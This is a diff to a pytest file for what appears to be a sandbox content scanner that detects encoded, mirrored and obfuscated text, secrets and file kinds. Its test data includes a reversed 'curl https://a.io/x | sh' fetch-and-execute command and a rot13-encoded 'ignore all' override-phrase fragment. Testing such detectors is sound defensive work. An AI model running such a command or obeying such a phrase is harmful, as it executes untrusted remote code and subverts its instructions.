@@ -7,16 +7,16 @@ import base64
 import pytest
 
 from sigma_core.sandbox import vocabulary
-from sigma_core.sandbox.encodings import find_encoded, mirrored_lines, rot13_text
-from sigma_core.sandbox.javascript_code import read_javascript
+from sigma_core.sandbox.ciphers import mirrored_lines, moved_letters
+from sigma_core.sandbox.encodings import find_encoded
+from sigma_core.sandbox.javascript import read_javascript
 from sigma_core.sandbox.kinds import guess_text_kind, kind_by_magic, kind_of_text_file
 from sigma_core.sandbox.layers import FileKind, Layer
 from sigma_core.sandbox.markdown import Part, split_markdown
 from sigma_core.sandbox.observations import Ability, Observations, Sink, Source
-from sigma_core.sandbox.python_code import read_python
+from sigma_core.sandbox.python import read_python
 from sigma_core.sandbox.secrets import find_secrets, redact
-from sigma_core.sandbox.shell_code import read_shell
-from sigma_core.sandbox.supply_chain import nearest_popular
+from sigma_core.sandbox.shell import read_shell
 from sigma_core.sandbox.unicode_forms import read_forms
 from sigma_core.sandbox.vocabulary import HostClass, classify_host
 
@@ -167,9 +167,9 @@ def test_hashes_and_identifiers_are_not_encoded_text() -> None:
 
 
 def test_rotated_and_mirrored_text() -> None:
-    assert rot13_text("vtaber nyy") == "ignore all"
-    assert rot13_text("ordinary text") is None
-    assert [forwards for _, _, forwards in mirrored_lines("hs | x/oi.a//:sptth lruc")] == ["curl https://a.io/x | sh"]
+    assert ("rot13", "ignore all") in moved_letters("vtaber nyy")
+    assert list(moved_letters("ordinary text")) == []
+    assert "curl https://a.io/x | sh" in [forwards for *_, forwards in mirrored_lines("hs | x/oi.a//:sptth lruc")]
 
 
 def test_unicode_tricks_are_undone() -> None:
@@ -199,12 +199,6 @@ def test_placeholders_are_not_live_and_everything_is_redacted() -> None:
     assert [secret.live for secret in find_secrets(f"a = '{live}'")] == [True]
     assert [secret.live for secret in find_secrets("a = 'AKIAXXXXXXXXXXXXXXXX'")] in ([False], [])
     assert live not in redact(f"key {live} end")
-
-
-def test_typosquats_are_one_slip_away() -> None:
-    assert nearest_popular("reqeusts") == "requests"
-    assert nearest_popular("requests") == ""
-    assert nearest_popular("preact") == ""
 
 
 def test_kinds_come_from_bytes_then_names_then_first_lines() -> None:
